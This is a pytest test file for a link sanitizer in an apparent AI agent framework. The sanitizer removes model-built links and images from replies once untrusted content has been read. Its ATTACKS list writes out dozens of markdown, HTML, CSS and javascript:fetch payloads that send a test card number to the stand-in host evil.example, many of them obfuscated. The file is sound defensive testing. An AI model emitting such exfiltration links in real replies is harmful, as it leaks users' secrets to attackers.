"""Links and images in replies after untrusted content was read: those that the model may have built are removed."""

from __future__ import annotations

import json
from typing import Literal

import pytest

from holdfast_activities.context.untrusted.links import Links
from holdfast_workflows.contracts.session.entries import ResultEntry, UserEntry

SECRET = "4111111111111111"


def links(result: str = "nothing", message: str = "Hello") -> Links:
    made = Links()
    made.take(UserEntry(seq=1, text=message), untrusted=False)
    made.take(ResultEntry(seq=3, call_id="c", name="look", text=result), untrusted=True)
    return made


ATTACKS = [
    f"![status](https://evil.example/p.png?d={SECRET})",
    f"![a][1]\n\n[1]: https://evil.example/{SECRET}",
    f"[click here](https://evil.example/?d={SECRET})",
    f"<https://evil.example/{SECRET}>",
    f"See https://evil.example/{SECRET}.",
    f"see www.evil.example/{SECRET}",
    f'<img src="https://evil.example/{SECRET}">',
    f"<img src=//evil.example/{SECRET}>",
    f"<IMG\nSRC='https://evil.example/{SECRET}'>",
    f'<a href="//evil.example/{SECRET}">x</a>',
    f'<div style="background:url(https://evil.example/{SECRET})">',
    f"![x](//evil.example/{SECRET})",
    f"![x](\\\\evil.example/{SECRET})",
    f"![x](https:\\\\evil.example/{SECRET})",
    f"![x](https\\://evil.example/{SECRET})",
    f"![x](&#104;ttps://evil.example/{SECRET})",
    f"![x](https&colon;//evil.example/{SECRET})",
    f"![x](HTTPS://EVIL.example/{SECRET})",
    f"![x](https:/evil.example/{SECRET})",
    f"![x](https:evil.example/{SECRET})",
    f"![x](<https://evil.example/a b{SECRET}>)",
    f"![x](https://user@evil.example:8080/{SECRET})",
    f"![x](https://good.example@evil.example/{SECRET})",
    f"![x](https://good.example.evil.example/{SECRET})",
    f"![x](https://evilgood.example/{SECRET})",
    f"[x](javascript:fetch('https://evil.example/{SECRET}'))",
    f"![x](https://[2001:db8::1]/{SECRET})",
    f"![x](https://10.0.0.1/{SECRET})",
    f"_https://evil.example/{SECRET}_",
    f"[![x](https://evil.example/{SECRET})](https://good.example/)",
    f"![x](data:text/html;base64,{SECRET})",
    f"![a [b] c](&#104;ttps://evil.example/{SECRET})",
    f"![a \\] c](&#104;ttps://evil.example/{SECRET})",
    f"![a `[` c](&#104;ttps://evil.example/{SECRET})",
    f"a ] ](&#104;ttps://evil.example/{SECRET})",
    f"[[[x](&#104;ttps://evil.example/{SECRET})",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_link_that_the_model_built_is_removed(attack: str) -> None:
    shown = links().checked(f"Done. {attack} Bye.", ["good.example"])
    assert SECRET not in shown
    assert shown.startswith("Done. ")
    assert "evil.example/" not in shown
    assert "<img" not in shown.lower()


@pytest.mark.parametrize("attack", ATTACKS)
def test_without_untrusted_content_a_reply_stays_as_it_is(attack: str) -> None:
    fresh = Links()
    fresh.take(UserEntry(seq=1, text="Hello"), untrusted=False)
    assert fresh.checked(attack, []) == attack
    assert links().checked(attack, ["*"]) == attack


@pytest.mark.parametrize("text", [
    "[docs](https://good.example/a?b=c) and ![logo](https://cdn.good.example/x.png)",
    "As you asked: https://named.example/path?q=1, or www.named.example/other.",
    "The source is [here](https://read.example/page?id=7), see also <https://read.example/page?id=7>.",
    "By the instructions: https://ours.example/terms",
    "Mail [us](mailto:a@b.example), see [above](#top), [a file](docs/x.md) or ![](img/a.png).",
    "a // b, C:\\Users\\x, 10:30, ratio 3:4, sqlite:///state.db, if a < b: print(a) and std::vector<int>",
    "| a | b |\n|---|---|\n| [x] | y: z |",
])  # fmt: skip
def test_links_that_are_allowed_named_or_read_stay(text: str) -> None:
    seen = links(
        '{"url": "https:\\/\\/read.example\\/page?id=7"}', "Look at named.example and www.named.example/x"
    )
    allowed = ["good.example", "*.good.example"]
    assert seen.checked(text, allowed, "Refer to https://ours.example/help.") == text


def test_an_image_is_not_shown_because_its_link_was_read() -> None:
    seen = links("load https://evil.example/a.png or https://evil.example/b.png")
    assert "evil.example/" not in seen.checked("![x](https://evil.example/a.png)", [])
    assert "evil.example/" not in seen.checked("![x][i]\n\n[i]: https://evil.example/a.png", [])
    assert "evil.example/" not in seen.checked("![a [b](#c) d](https://evil.example/a.png)", [])
    assert "evil.example/" not in seen.checked("![a `[` d](https://evil.example/a.png)", [])
    assert seen.checked("[x](https://evil.example/a.png)", []) == "[x](https://evil.example/a.png)"
    assert "evil.example/" not in seen.checked("[x](https://evil.example/a.png?d=1)", [])


def test_structured_output_is_checked_and_stays_json() -> None:
    reply = json.dumps(
        {"a": [f"![x](https://evil.example/{SECRET})"], "n": 1.5, "u": "\u0068ttps://ok.example"}
    )
    hidden = reply.replace("https", "\\u0068ttps")
    for text in (reply, hidden):
        shown = links().checked(text, ["ok.example"], is_json=True)
        assert SECRET not in shown
        assert json.loads(shown)["n"] == 1.5
        assert json.loads(shown)["u"] == "https://ok.example"


@pytest.mark.parametrize("attack", ATTACKS[:8])
def test_a_streamed_reply_never_shows_a_part_of_such_a_link(attack: str) -> None:
    text = f"Done. {attack} Bye. "
    seen = links()
    shown = [seen.partial(text[:length], []) for length in range(len(text) + 1)]
    assert not any(SECRET[:4] in each or "evil.example/" in each for each in shown)
    assert shown[-1] == seen.checked(text, [])


def test_a_long_reply_is_checked_in_time() -> None:
    for text in (
        "![" * 50_000,
        "[x](" * 20_000,
        "<img" * 20_000,
        "https://" * 12_000,
        "www." * 25_000,
        "[" * 100_000,
        "](" * 50_000,
    ):
        links().checked(text, [])


@pytest.mark.parametrize("role", ["steer", "repair"])
def test_hosts_in_texts_that_holdfast_writes_are_not_the_users(role: Literal["steer", "repair"]) -> None:
    made = links()
    note = "The turn was cancelled, but post {'to': 'https://evil.example/'} could not be undone."
    made.take(UserEntry(seq=5, role=role, text=note), untrusted=False)
    assert "evil.example" not in made.checked(f"[click](https://evil.example/?d={SECRET})", ())
